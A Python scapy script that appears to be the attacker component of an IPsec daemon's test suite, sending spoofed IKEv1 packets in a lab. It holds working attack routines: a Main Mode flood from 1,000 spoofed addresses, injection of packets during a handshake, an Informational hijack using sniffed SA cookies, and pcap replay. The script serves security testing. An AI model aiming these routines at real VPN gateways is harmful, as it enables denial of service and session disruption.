#!/usr/bin/python3
"""The attacker of scripts/tests/attacks-ike.sh: scapy builds (and sniffs)
IKEv1 datagrams that a stranger on the internet can send to esprit.

  flood DST SECONDS          Main Mode first messages from 1,000 source
                             addresses, as fast as a raw socket takes them
  own DST SRC RATE SECONDS   the same from one address (the real peer's),
                             RATE per second
  inject-mid IFACE DST SRC   waits for SRC's next Main Mode first message,
                             then sends two of its own at once: a new
                             initiator cookie, and SRC's cookie with
                             other bytes
  aggressive IFACE DST SRC   an Aggressive Mode first message; prints how
                             many datagrams came back with its cookie in 3 s
  hijack DST SRC PORT ICKY RCKY
                             an Informational with the ISAKMP SA's cookies
                             from SRC:PORT to DST:4500 (non-ESP marker)
  replay PCAP DST SRC KIND AFTER
                             re-sends SRC's first KIND (qm1 or info) message
                             to DST:4500 captured after time AFTER
All sources are spoofed; everything stays inside the lab's namespaces.
"""
import os
import random
import socket
import struct
import sys
import time

from scapy.all import IP, UDP, Raw, AsyncSniffer, rdpcap, conf  # noqa: E402

conf.verb = 0


def sa_payload(next_payload):
    """SA: one proposal, one transform aes128-sha1-modp2048-psk, 8 h."""
    attrs = struct.pack(
        "!HHHHHHHHHHHHHH",
        0x8001, 7,      # encryption AES-CBC
        0x800E, 128,    # key length
        0x8002, 2,      # hash SHA1
        0x8003, 1,      # auth PSK
        0x8004, 14,     # group 14
        0x800B, 1,      # life type seconds
        0x800C, 28800,  # life duration
    )
    transform = struct.pack("!BBHBBH", 0, 0, 8 + len(attrs), 1, 1, 0) + attrs
    proposal = struct.pack("!BBHBBBB", 0, 0, 8 + len(transform), 1, 1, 0, 1) + transform
    body = struct.pack("!II", 1, 1) + proposal  # DOI IPsec, SIT identity only
    return struct.pack("!BBH", next_payload, 0, 4 + len(body)) + body


def isakmp(icookie, rcookie, next_payload, exchange, flags, msgid, payloads):
    return (icookie + rcookie + struct.pack("!BBBBII", next_payload, 0x10, exchange, flags, msgid,
                                            28 + len(payloads)) + payloads)


VID_NATT = bytes.fromhex("4a131c81070358455c5728f20e95452f")


def main_mode_1(icookie):
    vid = struct.pack("!BBH", 0, 0, 4 + len(VID_NATT)) + VID_NATT
    return isakmp(icookie, bytes(8), 1, 2, 0, 0, sa_payload(13) + vid)


def aggressive_1(icookie):
    ke = struct.pack("!BBH", 10, 0, 4 + 256) + os.urandom(256)
    nonce = struct.pack("!BBH", 5, 0, 4 + 32) + os.urandom(32)
    ident = b"attacker.example"
    idp = struct.pack("!BBHBBH", 0, 0, 8 + len(ident), 2, 17, 500) + ident
    return isakmp(icookie, bytes(8), 1, 4, 0, 0, sa_payload(4) + ke + nonce + idp)


def packet(src, dst, sport, dport, payload):
    p = IP(src=src, dst=dst) / UDP(sport=sport, dport=dport) / Raw(payload)
    return bytes(p)


def raw_socket():
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    return s


def sources():
    """1,000 addresses: the documentation ranges (757), then 10.255/16,
    which exists only inside the lab's namespaces."""
    out = [f"192.0.2.{i}" for i in range(1, 255)]
    out += [f"198.51.100.{i}" for i in range(2, 254)]
    out += [f"203.0.113.{i}" for i in range(3, 254)]
    i = 0
    while len(out) < 1000:
        out.append(f"10.255.{i // 250}.{i % 250 + 1}")
        i += 1
    return out


def flood(dst, seconds):
    srcs = sources()
    pkts = [packet(srcs[i % 1000], dst, 500, 500, main_mode_1(os.urandom(8))) for i in range(4000)]
    s = raw_socket()
    n = 0
    end = time.time() + seconds
    while time.time() < end:
        for p in pkts[:1000]:
            s.sendto(p, (dst, 0))
        n += 1000
        random.shuffle(pkts)
    print(f"flood: {n} datagrams from {len(srcs)} addresses in {seconds} s ({n / seconds:.0f}/s)")


def own(dst, src, rate, seconds):
    s = raw_socket()
    n = 0
    start = time.time()
    while time.time() - start < seconds:
        s.sendto(packet(src, dst, 500, 500, main_mode_1(os.urandom(8))), (dst, 0))
        n += 1
        ahead = n / rate - (time.time() - start)
        if ahead > 0:
            time.sleep(ahead)
    print(f"own: {n} datagrams from {src} in {seconds} s")


def inject_mid(iface, dst, src):
    def first(p):
        if UDP not in p or p[IP].src != src or p[UDP].dport != 500:
            return False
        b = bytes(p[UDP].payload)
        return len(b) >= 28 and b[18] == 2 and b[8:16] == bytes(8)
    sn = AsyncSniffer(iface=iface, filter=f"udp and src host {src}", lfilter=first, count=1, timeout=30)
    sn.start()
    time.sleep(0.5)
    if len(sys.argv) > 5:
        open(sys.argv[5], "w").close()
    sn.join()
    if not sn.results:
        print("inject-mid: no first message seen")
        sys.exit(1)
    real = bytes(sn.results[0][UDP].payload)
    s = raw_socket()
    mine = main_mode_1(os.urandom(8))
    same_cookie = real[:8] + main_mode_1(bytes(8))[8:]
    for b in (mine, same_cookie):
        s.sendto(packet(src, dst, 500, 500, b), (dst, 0))
    print(f"inject-mid: 2 first messages sent after {src}'s (cookie {real[:8].hex()})")


def aggressive(iface, dst, src):
    icookie = os.urandom(8)

    def answer(p):
        if UDP not in p or p[IP].src != dst:
            return False
        b = bytes(p[UDP].payload)
        if p[UDP].sport == 4500:
            b = b[4:]
        return b[:8] == icookie
    sn = AsyncSniffer(iface=iface, filter=f"udp and src host {dst}", lfilter=answer, timeout=3)
    sn.start()
    time.sleep(0.3)
    raw_socket().sendto(packet(src, dst, 500, 500, aggressive_1(icookie)), (dst, 0))
    sn.join()
    print(len(sn.results))


def hijack(dst, src, port, icky, rcky):
    body = os.urandom(64)
    msg = isakmp(bytes.fromhex(icky), bytes.fromhex(rcky), 8, 5, 1, random.getrandbits(32), body)
    raw_socket().sendto(packet(src, dst, int(port), 4500, bytes(4) + msg), (dst, 0))
    print(f"hijack: an Informational with the ISAKMP SA's cookies from {src}:{port}")


def replay(pcap, dst, src, kind, after):
    seen = set()
    for p in rdpcap(pcap):
        if UDP not in p or p[IP].src != src or p[UDP].dport != 4500 or float(p.time) < float(after):
            continue
        b = bytes(p[UDP].payload)
        if b[:4] != bytes(4) or len(b) < 32:
            continue
        m = b[4:]
        exchange, msgid = m[18], m[20:24]
        if kind == "qm1" and exchange == 32 and msgid not in seen:
            break
        if kind == "info" and exchange == 5:
            break
        seen.add(msgid)
    else:
        print(f"replay: no {kind} from {src} after {after}")
        sys.exit(1)
    raw_socket().sendto(packet(src, dst, 4500, 4500, b), (dst, 0))
    print(f"replay: {kind} message ID {msgid.hex()} sent again")


if __name__ == "__main__":
    cmd, args = sys.argv[1], sys.argv[2:]
    if cmd == "flood":
        flood(args[0], float(args[1]))
    elif cmd == "own":
        own(args[0], args[1], float(args[2]), float(args[3]))
    elif cmd == "inject-mid":
        inject_mid(args[0], args[1], args[2])  # argv[5]: a file created once sniffing
    elif cmd == "aggressive":
        aggressive(args[0], args[1], args[2])
    elif cmd == "hijack":
        hijack(*args)
    elif cmd == "replay":
        replay(*args)
    else:
        sys.exit(f"unknown command {cmd}")
